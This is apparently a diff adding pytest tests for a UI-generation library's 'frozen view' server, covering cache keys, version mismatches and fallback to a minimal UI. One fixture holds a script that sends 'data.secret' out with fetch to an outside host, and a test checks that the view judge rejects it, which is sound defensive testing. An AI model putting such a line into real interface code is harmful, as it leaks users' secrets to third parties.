@@ -1,0 +1,127 @@
+"""Views that were made once: served to the tools that they were made for, after another look at them."""
+
+import pytest
+from attrs import evolve
+
+from genui_core.application.generation.frozen_maker import FrozenMaker
+from genui_core.application.generation.in_process_judge import InProcessJudge
+from genui_core.application.generation.view_state import ViewState
+from genui_core.domain.cache_key import ViewConfiguration
+from genui_core.domain.exported_views import ExportedSource, ExportedView, schema_hash
+from genui_core.domain.frozen_views import FrozenView, FrozenViews
+from genui_core.domain.prompting.facts import Facts
+from genui_core.domain.tool import Tool
+from genui_core.testing.identity import NumberedIdentity
+from genui_core.testing.journal import RecordingJournal
+from genui_core.testing.view_judge import FirstWordJudge
+
+pytestmark = pytest.mark.anyio
+TOOL = Tool({"name": "list", "inputSchema": {"type": "object"}})
+ROWS = {"type": "object", "properties": {"rows": {"type": "array", "items": {"type": "object"}}}}
+CHANGED = Tool({"name": "list", "inputSchema": {"type": "object"}, "outputSchema": ROWS})
+OTHER = Tool({"name": "other"})
+WRITTEN = ExportedSource(
+    file="f", sha256="", mode="document", llm_model="m", generated_at="2026-01-01T00:00:00+00:00",
+    generation_duration_ms=7, request_id="then", repairs=("tidied",),
+)  # fmt: skip
+ENTRY = ExportedView(
+    tool="list", tool_hash=TOOL.hash, schema_hash=schema_hash(TOOL), file="", sha256="", size_bytes=0,
+    ui_type="rich", cache_key="k" * 64, prompt_version="0", template_version="1", kit_api_version=1,
+    kit_build="older", source=WRITTEN,
+)  # fmt: skip
+
+
+@pytest.fixture
+def anyio_backend():
+    """Run on the loop that the wrapper runs on."""
+    return "asyncio"
+
+
+def maker(text="a view", **changed):
+    entry = evolve(ENTRY, **changed)
+    view = FrozenView(entry=entry, source=text if entry.source else "")
+    return FrozenMaker(
+        views=FrozenViews({"list": view}),
+        configuration=ViewConfiguration("set", "9", "hash", 1),
+        judge=FirstWordJudge(),
+        identity=NumberedIdentity(),
+        journal=RecordingJournal(),
+    )
+
+
+async def test_a_view_is_served_as_it_was_made_and_keeps_its_key():
+    made = maker()
+    view = await made.view(Facts(tool=TOOL, readers=frozenset({"get"})), "now")
+    assert (view.state, view.source, view.mode) == (ViewState.GENERATED, "a view", "document")
+    assert view.key == made.key(TOOL) == ENTRY.cache_key
+    assert (view.stored.llm_model, view.stored.request_id, view.stored.prompt_version) == ("m", "then", "0")
+    (brief,) = made.judge.briefs
+    assert (brief.mode, brief.callable_tools, brief.strict) == ("document", {"list", "get"}, True)
+    assert made.journal.events == []
+
+
+async def test_what_the_judge_mends_is_served_mended():
+    assert (await maker("sloppy view").view(Facts(tool=TOOL), "now")).source == "sloppy view"
+
+
+@pytest.mark.parametrize(
+    ("source", "changed", "words"),
+    [
+        ("evil view", {}, "does not pass the checks of views: test.first_word"),
+        ("broken view", {}, "does not pass the checks of views: test.first_word"),
+        ("a view", {"kit_api_version": 2}, "version 2 of the kit"),
+        ("a view", {"template_version": "0"}, "version 0 of the page"),
+    ],
+)
+async def test_a_view_that_cannot_be_served_is_the_minimal_ui_and_why_is_told(source, changed, words):
+    made = maker(source, **changed)
+    view = await made.view(Facts(tool=TOOL), "now")
+    assert (view.state, view.source) == (ViewState.MINIMAL, "")
+    (event,) = made.journal.named("frozen_view_not_served")
+    assert words in event.metadata["reason"]
+    assert (event.metadata["tool_name"], event.metadata["request_id"]) == ("list", "now")
+
+
+HOSTILE = """<style></style>
+<template><b></b></template>
+<script>
+function render(data, ui) { fetch("https://example.org/" + data.secret); }
+</script>"""
+
+
+async def test_somebody_elses_view_is_judged_as_strictly_as_a_models():
+    made = evolve(maker(HOSTILE, source=evolve(WRITTEN, mode="fragment")), judge=InProcessJudge())
+    assert (await made.view(Facts(tool=TOOL), "now")).source == ""
+    assert "checks of views" in made.journal.named("frozen_view_not_served")[0].metadata["reason"]
+    harmless = HOSTILE.replace('fetch("https://example.org/" + data.secret)', "ui.root.append(data.secret)")
+    made = evolve(maker(harmless, source=evolve(WRITTEN, mode="fragment")), judge=InProcessJudge())
+    assert "ui.root.append" in (await made.view(Facts(tool=TOOL), "now")).source
+
+
+@pytest.mark.parametrize(("tool", "words"), [(CHANGED, "another definition"), (OTHER, "none of it")])
+async def test_other_tools_have_no_frozen_view_and_why_is_told(tool, words):
+    made = maker()
+    assert made.key(tool) is None
+    assert await made.view(Facts(tool=tool), "now") is None
+    assert words in made.journal.named("frozen_view_not_served")[0].metadata["reason"]
+
+
+async def test_a_tool_whose_ui_was_the_minimal_one_keeps_it_without_a_word():
+    made = maker(source=None, ui_type="minimal")
+    view = await made.view(Facts(tool=TOOL), "now")
+    assert (view.state, view.source) == (ViewState.MINIMAL, "")
+    assert (made.judge.briefs, made.journal.events) == ([], [])
+
+
+async def test_a_keeper_asks_no_model_for_a_frozen_view_until_somebody_wishes_for_another(workshop):
+    place = workshop("another view")
+    place.keeper.frozen = maker()
+    view = await place.read(TOOL)
+    assert (view.source, place.asked, place.changes) == ("a view", 0, [])
+    assert (await place.read(TOOL)) is view
+    assert (await place.read(CHANGED)).source == "another view"
+    assert place.asked == 1
+    wishes = place.keeper.refinements(TOOL).with_one_more(
+        "sortable", at=place.clock.now(), key_before=view.key
+    )
+    assert place.keeper.key(TOOL, wishes) != view.key
